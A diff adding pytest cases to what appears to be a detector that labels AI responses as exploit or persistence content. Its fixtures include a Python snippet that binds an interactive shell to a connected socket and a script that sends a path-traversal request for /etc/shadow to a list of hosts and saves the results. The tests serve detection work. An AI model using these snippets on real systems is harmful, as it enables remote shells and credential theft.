@@ -2300,3 +2300,80 @@ def test_a_mailbox_exported_to_a_local_archive_holds_no_part() -> None:
 )
 def test_a_plain_address_or_an_enrolment_code_in_a_qr_is_no_recipient_lure(response: str) -> None:
     assert Capability.RECIPIENT_QR not in read_response(response).capabilities.hits
+
+
+# The lines after a connection the request already made: the socket put on the standard
+# streams and a shell started on it.
+SHELL_AFTER_ITS_CONNECT = """Then, once `conn` is connected:
+
+```python
+import os, subprocess
+os.dup2(conn.fileno(), 0)
+os.dup2(conn.fileno(), 1)
+os.dup2(conn.fileno(), 2)
+subprocess.call(["/bin/sh", "-i"])
+```"""
+# popen written by hand: a pipe's end given to the child that runs the command through sh
+POPEN_BY_HAND = """```c
+int fds[2];
+pipe(fds);
+pid_t pid = fork();
+if (pid == 0) {
+    dup2(fds[0], STDIN_FILENO);
+    close(fds[1]);
+    execl("/bin/sh", "sh", "-c", command, (char *)NULL);
+    _exit(127);
+}
+```"""
+# a daemon's standard streams put on /dev/null before it runs its hook script
+DAEMON_HOOK = """```python
+import os
+fd = os.open(os.devnull, os.O_RDWR)
+for n in (0, 1, 2):
+    os.dup2(fd, n)
+os.execv("/bin/sh", ["sh", "/etc/rotator/post-rotate.sh"])
+```"""
+
+
+def test_a_shell_put_on_a_connection_made_elsewhere_holds_part_of_an_exploit() -> None:
+    reading = read_response(SHELL_AFTER_ITS_CONNECT)
+    assert not reading.verdict.refused
+    assert reading.part_of("RL-EXPLOIT") and reading.part_of("RL-PERSISTENCE")
+
+
+@pytest.mark.parametrize("response", [POPEN_BY_HAND, DAEMON_HOOK], ids=["popen", "daemon"])
+def test_a_pipe_or_dev_null_on_a_shells_streams_holds_no_part(response: str) -> None:
+    holds_no_part(response)
+
+
+# A program's requests asking each host of a list for a system file through a climbing path.
+TRAVERSAL_SENT_TO_HOSTS = """```python
+import requests
+
+hosts = [h.strip() for h in open("appliances.txt") if h.strip()]
+LEAK = "/static/..%2f..%2f..%2f..%2fetc/shadow"
+for h in hosts:
+    r = requests.get(f"https://{h}{LEAK}", timeout=6)
+    if r.ok and "root:" in r.text:
+        open(f"{h}.shadow", "w").write(r.text)
+```"""
+# the same climb sent to one's own app on the loopback, to check it is refused
+TRAVERSAL_TESTED_ON_LOOPBACK = """```python
+import requests
+
+BASE = "http://127.0.0.1:8080"
+
+def static_route_refuses_climbing_paths() -> bool:
+    resp = requests.get(BASE + "/static/..%2f..%2f..%2f..%2fetc/passwd", timeout=3)
+    return resp.status_code == 404
+```"""
+
+
+def test_a_climbing_path_sent_to_others_hosts_holds_part_of_an_exploit() -> None:
+    reading = read_response(TRAVERSAL_SENT_TO_HOSTS)
+    assert not reading.verdict.refused
+    assert reading.part_of("RL-EXPLOIT")
+
+
+def test_a_climbing_path_tried_on_ones_own_loopback_holds_no_part() -> None:
+    holds_no_part(TRAVERSAL_TESTED_ON_LOOPBACK)
